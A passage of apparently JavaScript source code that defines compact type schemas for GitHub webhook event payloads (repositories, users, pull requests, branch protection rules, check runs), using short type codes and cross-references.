    { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "anonymous_access_enabled": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "s", "custom_properties": { "*": "?" }, "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#2", "master_branch": "s", "merge_commit_message": "s", "merge_commit_title": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "network_count": "n", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "#3", "owner": "#3", "permissions": "#4", "private": "b", "pulls_url": "s", "pushed_at": "s", "releases_url": "s", "size": "n", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "ssh_url": "s", "stargazers_count": "n", "stargazers_url": "s", "starred_at": "s", "statuses_url": "s", "subscribers_count": "n", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "temp_clone_token": "s", "template_repository": "#6", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b" },
    { "avatar_url": "s", "created_at": "s", "description": "s", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "name": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "slug": "s", "starred_at": "s", "starred_url": "s", "subscriptions_url": "s", "type": "s", "updated_at": "s", "url": "s", "user_view_type": "s", "website_url": "s" },
    { "*": "?", "checks": "s", "contents": "s", "deployments": "s", "issues": "s", "metadata": "s" },
    { "client_id": "s", "created_at": "s", "description": "s", "events": ["s"], "external_url": "s", "html_url": "s", "id": "n", "installations_count": "n", "name": "s", "node_id": "s", "owner": "#8", "permissions": "#9", "slug": "s", "updated_at": "s", "~": "?" },
    { "key": "s", "name": "s", "node_id": "s", "spdx_id": "s", "url": "s", "~": "?" },
    { "ref": "s", "repo": { "id": "n", "name": "s", "url": "s" }, "sha": "s" },
    { "base": "#12", "head": "#12", "id": "n", "number": "n", "url": "s" }, ["#13"], { "avatar_url": "s", "deleted": "b", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "name": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s", "~": "?" },
    { "date": "s", "email": "s", "name": "s", "username": "s" },
    { "author": "#16", "committer": "#16", "id": "s", "message": "s", "timestamp": "s", "tree_id": "s" },
    { "actions": "s", "administration": "s", "checks": "s", "content_references": "s", "contents": "s", "deployments": "s", "discussions": "s", "emails": "s", "environments": "s", "issues": "s", "keys": "s", "members": "s", "metadata": "s", "organization_administration": "s", "organization_hooks": "s", "organization_packages": "s", "organization_plan": "s", "organization_projects": "s", "organization_secrets": "s", "organization_self_hosted_runners": "s", "organization_user_blocking": "s", "packages": "s", "pages": "s", "pull_requests": "s", "repository_hooks": "s", "repository_projects": "s", "secret_scanning_alerts": "s", "secrets": "s", "security_events": "s", "security_scanning_alert": "s", "single_file": "s", "statuses": "s", "team_discussions": "s", "vulnerability_alerts": "s", "workflows": "s" },
    { "created_at": "s", "description": "s", "events": ["s"], "external_url": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "owner": "#15", "permissions": "#18", "slug": "s", "updated_at": "s", "~": "?" },
    { "created_at": "s", "creator": "#15", "description": "s", "environment": "s", "id": "n", "node_id": "s", "original_environment": "s", "payload": "?", "performed_via_github_app": "#19", "production_environment": "b", "ref": "s", "repository_url": "s", "sha": "s", "statuses_url": "s", "task": "s", "transient_environment": "b", "updated_at": "s", "url": "s" },
    { "badge_url": "s", "created_at": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "path": "s", "state": "s", "updated_at": "s", "url": "s", "~": "?" },
    { "archive_url": "s", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "deployments_url": "s", "description": "?", "downloads_url": "s", "events_url": "s", "fork": "b", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "hooks_url": "s", "html_url": "s", "id": "n", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "languages_url": "s", "merges_url": "s", "milestones_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "owner": "#5", "private": "b", "pulls_url": "s", "releases_url": "s", "stargazers_url": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "tags_url": "s", "teams_url": "s", "trees_url": "s", "url": "s" },
    { "actor": "#15", "artifacts_url": "s", "cancel_url": "s", "check_suite_id": "n", "check_suite_node_id": "s", "check_suite_url": "s", "conclusion": "s", "created_at": "s", "display_title": "s", "event": "s", "head_branch": "s", "head_commit": "?", "head_repository": "#22", "head_sha": "s", "html_url": "s", "id": "n", "jobs_url": "s", "logs_url": "s", "name": "s", "node_id": "s", "path": "s", "previous_attempt_url": "?", "pull_requests": "#14", "referenced_workflows": [{ "path": "s", "ref": "s", "sha": "s" }], "repository": "#22", "rerun_url": "s", "run_attempt": "n", "run_number": "n", "run_started_at": "s", "status": "s", "triggering_actor": "#15", "updated_at": "s", "url": "s", "workflow_id": "n", "workflow_url": "s", "~": "?" },
    { "+1": "n", "-1": "n", "confused": "n", "eyes": "n", "heart": "n", "hooray": "n", "laugh": "n", "rocket": "n", "total_count": "n", "url": "s" },
    { "author_association": "s", "body": "s", "child_comment_count": "n", "created_at": "s", "discussion_id": "n", "html_url": "s", "id": "n", "node_id": "s", "parent_id": "?", "reactions": "#24", "repository_url": "s", "updated_at": "s", "user": "#15" },
    { "created_at": "s", "description": "s", "emoji": "s", "id": "n", "is_answerable": "b", "name": "s", "node_id": "s", "repository_id": "n", "slug": "s", "updated_at": "s" },
    { "color": "s", "default": "b", "description": "s", "id": "n", "name": "s", "node_id": "s", "url": "s" }, ["#27"], { "active_lock_reason": "s", "answer_chosen_at": "s", "answer_chosen_by": "#15", "answer_html_url": "s", "author_association": "s", "body": "s", "category": "#26", "comments": "n", "created_at": "s", "html_url": "s", "id": "n", "labels": "#28", "locked": "b", "node_id": "s", "number": "n", "reactions": "#24", "repository_url": "s", "state": "s", "state_reason": "s", "timeline_url": "s", "title": "s", "updated_at": "s", "user": "#15" },
    { "*": "?", "avatar_url": "s", "deleted": "b", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "name": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s", "~": "?" }, ["#30"], { "blocked_by": "n", "blocking": "n", "total_blocked_by": "n", "total_blocking": "n" },
    { "*": "?", "closed_at": "s", "closed_issues": "n", "created_at": "s", "creator": "#15", "description": "s", "due_on": "s", "html_url": "s", "id": "n", "labels_url": "s", "node_id": "s", "number": "n", "open_issues": "n", "state": "s", "title": "s", "updated_at": "s", "url": "s", "~": "?" },
    { "*": "?", "created_at": "s", "description": "s", "events": ["s"], "external_url": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "owner": "#15", "permissions": "#18", "slug": "s", "updated_at": "s", "~": "?" },
    { "diff_url": "s", "html_url": "s", "merged_at": "s", "patch_url": "s", "url": "s" },
    { "completed": "n", "percent_completed": "n", "total": "n" },
    { "color": "s", "created_at": "s", "description": "s", "id": "n", "is_enabled": "b", "name": "s", "node_id": "s", "updated_at": "s", "~": "?" }, ["#15"], { "color": "s", "id": "n", "name": "s", "~": "?" },
    { "data_type": "s", "issue_field_id": "n", "node_id": "s", "single_select_option": "#39", "value": "?" }, ["#40"], { "closed_at": "s", "closed_issues": "n", "created_at": "s", "creator": "#15", "description": "s", "due_on": "s", "html_url": "s", "id": "n", "labels_url": "s", "node_id": "s", "number": "n", "open_issues": "n", "state": "s", "title": "s", "updated_at": "s", "url": "s", "~": "?" },
    { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "?", "custom_properties": { "*": "?" }, "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#11", "master_branch": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "s", "owner": "#15", "permissions": "#4", "private": "b", "public": "b", "pulls_url": "s", "pushed_at": "?", "releases_url": "s", "role_name": "s", "size": "n", "ssh_url": "s", "stargazers": "n", "stargazers_count": "n", "stargazers_url": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b" },
    { "base": { "ref": { "from": "s" }, "sha": { "from": "s" } }, "body": { "from": "s" }, "title": { "from": "s" } },
    { "closed_at": "s", "closed_issues": "n", "created_at": "s", "creator": "#3", "description": "s", "due_on": "s", "html_url": "s", "id": "n", "labels_url": "s", "node_id": "s", "number": "n", "open_issues": "n", "state": "s", "title": "s", "updated_at": "s", "url": "s" },
    { "comments": { "href": "s" }, "commits": { "href": "s" }, "html": { "href": "s" }, "issue": { "href": "s" }, "review_comment": { "href": "s" }, "review_comments": { "href": "s" }, "self": { "href": "s" }, "statuses": { "href": "s" } },
    { "avatar_url": "s", "deleted": "b", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "name": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_at": "s", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s", "~": "?" }, ["#47"], { "commit_message": "s", "commit_title": "s", "enabled_by": "#47", "merge_method": "s", "~": "?" },
    { "lexical_commit_sha": "s", "lexical_search_ok": "b" },
    { "html_url": "s", "key": "s", "name": "s", "node_id": "s", "spdx_id": "s", "url": "s", "~": "?" },
    { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "anonymous_access_enabled": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "code_search_index_status": "#50", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "?", "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#51", "master_branch": "s", "merge_commit_message": "s", "merge_commit_title": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "s", "owner": "#47", "permissions": "#4", "private": "b", "public": "b", "pulls_url": "s", "pushed_at": "?", "releases_url": "s", "role_name": "s", "size": "n", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "ssh_url": "s", "stargazers": "n", "stargazers_count": "n", "stargazers_url": "s", "starred_at": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "temp_clone_token": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b" },
    { "label": "s", "ref": "s", "repo": "#52", "sha": "s", "user": "#47" },
    { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "anonymous_access_enabled": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "code_search_index_status": "#50", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "?", "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#51", "master_branch": "s", "merge_commit_message": "s", "merge_commit_title": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "s", "owner": "#47", "permissions": "#4", "private": "b", "public": "b", "pulls_url": "s", "pushed_at": "?", "releases_url": "s", "role_name": "s", "size": "n", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "ssh_url": "s", "stargazers": "n", "stargazers_count": "n", "stargazers_url": "s", "starred_at": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "temp_clone_token": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b", "~": "?" },
    { "label": "s", "ref": "s", "repo": "#54", "sha": "s", "user": "#47" },
    { "closed_at": "s", "closed_issues": "n", "created_at": "s", "creator": "#47", "description": "s", "due_on": "s", "html_url": "s", "id": "n", "labels_url": "s", "node_id": "s", "number": "n", "open_issues": "n", "state": "s", "title": "s", "updated_at": "s", "url": "s", "~": "?" },
    { "description": "s", "html_url": "s", "id": "n", "members_url": "s", "name": "s", "node_id": "s", "permission": "s", "privacy": "s", "repositories_url": "s", "slug": "s", "url": "s", "~": "?" },
    { "avatar_url": "s", "deleted": "b", "description": "s", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "members_url": "s", "name": "s", "node_id": "s", "organizations_url": "s", "parent": "#57", "permission": "s", "privacy": "s", "received_events_url": "s", "repos_url": "s", "repositories_url": "s", "site_admin": "b", "slug": "s", "starred_at": "s", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s", "~": "?" }, ["#58"], { "deleted": "b", "description": "s", "enterprise_id": "n", "html_url": "s", "id": "n", "ldap_dn": "s", "members_url": "s", "name": "s", "node_id": "s", "notification_setting": "s", "organization_id": "n", "parent": "#57", "permission": "s", "privacy": "s", "repositories_url": "s", "slug": "s", "type": "s", "url": "s" }, ["#60"], { "_links": "#46", "active_lock_reason": "s", "additions": "n", "allow_auto_merge": "b", "allow_update_branch": "b", "assignee": "#47", "assignees": "#48", "author_association": "s", "auto_merge": "#49", "base": "#53", "body": "s", "changed_files": "n", "closed_at": "s", "comments": "n", "comments_url": "s", "commits": "n", "commits_url": "s", "created_at": "s", "delete_branch_on_merge": "b", "deletions": "n", "diff_url": "s", "draft": "b", "head": "#55", "html_url": "s", "id": "n", "issue_url": "s", "labels": "#28", "locked": "b", "maintainer_can_modify": "b", "merge_commit_message": "s", "merge_commit_sha": "s", "merge_commit_title": "s", "mergeable": "b", "mergeable_state": "s", "merged": "b", "merged_at": "s", "merged_by": "#47", "milestone": "#56", "node_id": "s", "number": "n", "patch_url": "s", "rebaseable": "b", "requested_reviewers": "#59", "requested_teams": "#61", "review_comment_url": "s", "review_comments": "n", "review_comments_url": "s", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "state": "s", "statuses_url": "s", "title": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "user": "#47" },
    { "deleted": "b", "description": "s", "html_url": "s", "id": "n", "members_url": "s", "name": "s", "node_id": "s", "parent": "#57", "permission": "s", "privacy": "s", "repositories_url": "s", "slug": "s", "url": "s" },
    { "action": "s", "after": "s", "assignee": "#15", "before": "s", "changes": "#44", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "label": "#27", "milestone": "#45", "number": "n", "organization": "#1", "pull_request": "#62", "reason": "s", "repository": "#7", "requested_reviewer": "#15", "requested_team": "#63", "sender": "#3" },
    { "avatar_url": "s", "deleted": "b", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "name": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "~": "?" },
    { "commit_message": "s", "commit_title": "s", "enabled_by": "#15", "merge_method": "s", "~": "?" },
    { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "?", "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#11", "master_branch": "s", "merge_commit_message": "s", "merge_commit_title": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "s", "owner": "#15", "permissions": "#4", "private": "b", "public": "b", "pulls_url": "s", "pushed_at": "?", "releases_url": "s", "role_name": "s", "size": "n", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "ssh_url": "s", "stargazers": "n", "stargazers_count": "n", "stargazers_url": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b" },
    { "label": "s", "ref": "s", "repo": "#67", "sha": "s", "user": "#15" },
    { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "?", "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#11", "master_branch": "s", "merge_commit_message": "s", "merge_commit_title": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "s", "owner": "#15", "permissions": "#4", "private": "b", "public": "b", "pulls_url": "s", "pushed_at": "?", "releases_url": "s", "role_name": "s", "size": "n", "squash_merge_commit_message": "s", "squash_merge_commit_title": "s", "ssh_url": "s", "stargazers": "n", "stargazers_count": "n", "stargazers_url": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "use_squash_pr_title_as_default": "b", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b", "~": "?" },
    { "label": "s", "ref": "s", "repo": "#69", "sha": "s", "user": "#15" },
    { "avatar_url": "s", "deleted": "b", "description": "s", "email": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "members_url": "s", "name": "s", "node_id": "s", "organizations_url": "s", "parent": "#57", "permission": "s", "privacy": "s", "received_events_url": "s", "repos_url": "s", "repositories_url": "s", "site_admin": "b", "slug": "s", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s", "~": "?" }, ["#71"], ["#63"], { "avatar_url": "s", "events_url": "s", "followers_url": "s", "following_url": "s", "gists_url": "s", "gravatar_id": "s", "html_url": "s", "id": "n", "login": "s", "node_id": "s", "organizations_url": "s", "received_events_url": "s", "repos_url": "s", "site_admin": "b", "starred_url": "s", "subscriptions_url": "s", "type": "s", "url": "s", "user_view_type": "s" },
    { "archive_url": "s", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "deployments_url": "s", "description": "s", "downloads_url": "s", "events_url": "s", "fork": "b", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "hooks_url": "s", "html_url": "s", "id": "n", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "languages_url": "s", "merges_url": "s", "milestones_url": "s", "name": "s", "node_id": "s", "notifications_url": "s", "owner": "#15", "private": "b", "pulls_url": "s", "releases_url": "s", "stargazers_url": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "tags_url": "s", "teams_url": "s", "trees_url": "s", "url": "s" }];
const EVENT_PAYLOADS = {
    "branch_protection_rule": { "action": "s", "changes": { "admin_enforced": { "from": "b" }, "authorized_actor_names": { "from": ["s"] }, "authorized_actors_only": { "from": "b" }, "authorized_dismissal_actors_only": { "from": "b" }, "linear_history_requirement_enforcement_level": { "from": "s" }, "lock_allows_fork_sync": { "from": "b" }, "lock_branch_enforcement_level": { "from": "s" }, "pull_request_reviews_enforcement_level": { "from": "s" }, "require_last_push_approval": { "from": "b" }, "required_status_checks": { "from": ["s"] }, "required_status_checks_enforcement_level": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "rule": { "admin_enforced": "b", "allow_deletions_enforcement_level": "s", "allow_force_pushes_enforcement_level": "s", "authorized_actor_names": ["s"], "authorized_actors_only": "b", "authorized_dismissal_actors_only": "b", "create_protected": "b", "created_at": "s", "dismiss_stale_reviews_on_push": "b", "id": "n", "ignore_approvals_from_contributors": "b", "linear_history_requirement_enforcement_level": "s", "lock_allows_fork_sync": "b", "lock_branch_enforcement_level": "s", "merge_queue_enforcement_level": "s", "name": "s", "pull_request_reviews_enforcement_level": "s", "repository_id": "n", "require_code_owner_review": "b", "require_last_push_approval": "b", "required_approving_review_count": "n", "required_conversation_resolution_level": "s", "required_deployments_enforcement_level": "s", "required_status_checks": ["s"], "required_status_checks_enforcement_level": "s", "signature_requirement_enforcement_level": "s", "strict_required_status_checks_policy": "b", "updated_at": "s" }, "sender": "#3" },
    "check_run": { "action": "s", "check_run": { "app": "#10", "check_suite": { "after": "s", "app": "#10", "before": "s", "conclusion": "s", "created_at": "s", "head_branch": "s", "head_sha": "s", "id": "n", "node_id": "s", "pull_requests": [{ "base": { "ref": "s", "repo": "?", "sha": "s" }, "head": { "ref": "s", "repo": "?", "sha": "s" }, "id": "n", "number": "n", "url": "s" }], "repository": { "allow_forking": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "code_of_conduct": { "body": "s", "html_url": "s", "key": "s", "name": "s", "url": "s" }, "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "s", "custom_properties": { "*": "?" }, "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_discussions": "b", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "s", "languages_url": "s", "license": "#11", "merges_url": "s", "milestones_url": "s", "mirror_url": "s", "name": "s", "network_count": "n", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "owner": "#3", "permissions": "#4", "private": "b", "pulls_url": "s", "pushed_at": "s", "releases_url": "s", "role_name": "s", "security_and_analysis": { "advanced_security": "?", "code_security": "?", "dependabot_security_updates": "?", "secret_scanning": "?", "secret_scanning_ai_detection": "?", "secret_scanning_non_provider_patterns": "?", "secret_scanning_push_protection": "?", "~": "?" }, "size": "n", "ssh_url": "s", "stargazers_count": "n", "stargazers_url": "s", "statuses_url": "s", "subscribers_count": "n", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "temp_clone_token": "s", "topics": ["s"], "trees_url": "s", "updated_at": "s", "url": "s", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b" }, "status": "s", "updated_at": "s", "url": "s" }, "completed_at": "s", "conclusion": "s", "deployment": { "created_at": "s", "description": "s", "environment": "s", "id": "n", "node_id": "s", "original_environment": "s", "performed_via_github_app": "#10", "production_environment": "b", "repository_url": "s", "statuses_url": "s", "task": "s", "transient_environment": "b", "updated_at": "s", "url": "s" }, "details_url": "s", "external_id": "s", "head_sha": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "output": { "annotations_count": "n", "annotations_url": "s", "summary": "s", "text": "s", "title": "s" }, "pull_requests": "#14", "started_at": "s", "status": "s", "url": "s" }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "requested_action": { "identifier": "s" }, "sender": "#3" },
